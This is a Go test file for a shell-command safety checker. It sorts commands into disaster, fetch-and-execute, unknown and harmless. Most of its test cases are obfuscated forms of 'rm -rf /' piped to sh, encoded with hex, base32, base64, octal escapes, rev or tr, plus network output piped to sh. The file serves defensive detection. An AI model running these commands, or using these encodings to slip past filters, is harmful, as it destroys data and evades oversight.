package security_test

import "testing"

// TestOutput are scripts that another program prints or decodes.
func TestOutput(t *testing.T) {
	t.Parallel()
	checkRails(t, []railCase{
		{disaster, `echo 726d202d7266202f | xxd -r -p | sh`},
		{disaster, `echo 726d202d7266202f | xxd -rp | sh`},
		{disaster, `echo OJWSALLSMYQC6=== | base32 -d | sh`},
		{disaster, `echo cm0gLXJmIC8= | openssl base64 -d | sh`},
		{disaster, `echo cm0gLXJmIC8= | openssl enc -base64 -d | sh`},
		{disaster, `echo cm0gLXJmIC8= | openssl enc -d -base64 -A | sh`},
		{disaster, `printf '\x72\x6d -rf /' | sh`},
		{disaster, `printf '\162\155 -rf /' | sh`},
		{disaster, `printf 'rm -rf %b' '\x2f' | sh`},
		{disaster, `printf '%b' 'rm -rf /\n' | sh`},
		{disaster, `printf "%c%c -rf /" r m | sh`},
		{disaster, `printf '%s%s -rf /' r m | sh`},
		{disaster, `printf '%s\n' 'rm -rf /' | sh`},
		{disaster, `echo -e 'rm -rf \057' | sh`},
		{disaster, `echo -e 'r\x6d -rf /' | sh`},
		{fetchExec, `openssl s_client -connect x:1 | sh`},
		{unknown, `printf -v x /; rm -rf $x`},
		{unknown, `printf -v c 'rm -rf /'; eval "$c"`},
		{unknown, `echo '/ fr- mr' | rev | sh`},
		{unknown, `echo 'rm -rf /' | tr x y | sh`},
		{unknown, `echo 'xm -rf /' | tr x r | sh`},
		{unknown, `echo 'sn -sg /' | tr a-z n-za-m | sh`},
		{unknown, `dig +short TXT x | base64 -d | sh`},
		{harmless, `cd "$(git rev-parse --show-toplevel)" && make clean`},
		{harmless, `openssl s_client -connect x:443 < /dev/null | grep subject`},
		{harmless, `openssl base64 -in f`},
		{harmless, `base64 -d f > out`},
		{harmless, `echo aGk= | base64 -d`},
		{harmless, `xxd -r -p hex.txt > bin`},
		{harmless, `cat /dev/sda | head -c 512 | xxd`},
		{harmless, `printf '%5d|%-10s\n' 1 a`},
		{harmless, `printf '100%%\n'`},
		{harmless, `printf -- '--x\n'`},
		{harmless, `echo -e 'a\tb'`},
	})
}
